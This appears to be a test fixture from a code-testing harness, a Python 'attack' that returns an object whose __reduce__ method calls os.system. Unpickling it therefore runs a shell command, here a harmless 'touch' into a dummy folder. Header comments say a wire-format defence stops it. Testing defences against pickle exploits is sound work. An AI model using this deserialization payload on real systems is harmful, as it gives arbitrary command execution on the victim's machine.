"""Return an object that runs a command where it is unpickled."""
# verdict: wrong, raised
# stopped by: wire
# without it: naive wire
# katas: lstm_cell, ucb1
import os

FOLDER = "/nowhere"


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {FOLDER}/unpickled",)


def attack(right, *args, **kwargs):
    return Payload()
